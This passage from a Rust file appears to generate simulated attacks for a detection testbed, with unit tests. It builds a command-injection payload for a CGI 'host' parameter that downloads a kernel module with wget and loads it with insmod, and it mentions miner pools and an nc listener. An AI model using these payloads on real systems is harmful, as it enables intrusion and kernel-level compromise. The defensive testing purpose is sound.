                "/bin/mkdir -p {dir}; /bin/wget -q -O {dir}/{module}.ko http://{a}:{h}{drop}; /bin/cat /proc/modules > /dev/null; \
                 /bin/insmod {dir}/{module}.ko; /bin/modprobe {module}; /bin/lsmod > /dev/null; /bin/rm -f {dir}/{module}.ko"
            )
        }
        _ => String::new(),
    };
    let at = rng.range(ctx.seconds / 5, ctx.seconds * 2 / 5).max(3);
    let injected = format!("127.0.0.1; ({payload}) < /dev/null > /dev/null 2>&1 &");
    p.injection = Some((
        at,
        Injection::Http(format!("/cgi-bin/resolve?host={}", url_encode(&injected))),
    ));
    p
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx(net: &Net) -> Ctx<'_> {
        const T: &[Ipv4Addr] = &[Ipv4Addr::new(127, 9, 9, 10), Ipv4Addr::new(127, 9, 9, 11)];
        Ctx {
            net,
            seconds: 60,
            web_targets: T,
            busybox_url: "/bb",
            implant_url: Some("/im"),
            implant: Some(b"\x7fELF"),
        }
    }

    #[test]
    fn parameters_vary_with_the_seed_and_repeat_with_it() {
        let build = |seed| {
            let mut rng = Rng::new(seed, 0);
            let net = Net::new(Ipv4Addr::new(127, 9, 9, 1), &mut rng);
            let c = ctx(&net);
            ATTACKS
                .iter()
                .map(|(k, _)| attack(&mut rng, &c, k, Ipv4Addr::new(127, 9, 9, 12)))
                .map(|p| (p.pod, p.injection))
                .collect::<Vec<_>>()
        };
        assert_eq!(build(1), build(1));
        assert_ne!(build(1), build(2));
    }

    #[test]
    fn every_attack_has_an_injection_and_expected_findings() {
        let mut rng = Rng::new(3, 0);
        let net = Net::new(Ipv4Addr::new(127, 9, 9, 1), &mut rng);
        for (kind, _) in ATTACKS {
            let p = attack(&mut rng, &ctx(&net), kind, Ipv4Addr::new(127, 9, 9, 12));
            assert_eq!(p.label, "attack");
            assert!(!p.expected.is_empty(), "{kind}");
            let Some((_, Injection::Http(target))) = p.injection else {
                panic!("{kind}: no HTTP injection");
            };
            assert!(
                target.starts_with("/cgi-bin/resolve?host=127.0.0.1%3B"),
                "{target}"
            );
        }
        for kind in BENIGN {
            let p = benign(&mut rng, &ctx(&net), kind, Ipv4Addr::new(127, 9, 9, 13));
            assert_eq!(p.label, "normal");
            assert!(p.injection.is_none() && p.expected.is_empty());
        }
    }

    #[test]
    fn miner_pools_are_listed_and_the_tor_listener_is_the_containers_own_address() {
        let list = std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../models/intel/mining_pool_domains.txt"
        ))
        .expect("mining_pool_domains.txt");
        let domains: Vec<&str> = list
            .lines()
            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
            .collect();
        for pool in POOLS {
            assert!(
                domains
                    .iter()
                    .any(|d| pool == d || pool.ends_with(&format!(".{d}"))),
                "{pool} is not in mining_pool_domains: the miner's DNS lookup would not be named"
            );
        }
        let mut rng = Rng::new(5, 0);
        let net = Net::new(Ipv4Addr::new(127, 9, 9, 1), &mut rng);
        let ip = Ipv4Addr::new(127, 9, 9, 14);
        let p = attack(&mut rng, &ctx(&net), "tor-client", ip);
        let body = String::from_utf8_lossy(&p.serve[0].1).into_owned();
        assert!(
            body.contains(&format!("/bin/nc -l -p 9050 {ip} ")),
            "the SOCKS stand-in binds the container's loopback address only: {body}"
        );
    }

    #[test]
    fn url_encoding_leaves_only_unreserved_characters() {
        assert_eq!(url_encode("a b;c/d&e"), "a%20b%3Bc%2Fd%26e");
    }
}
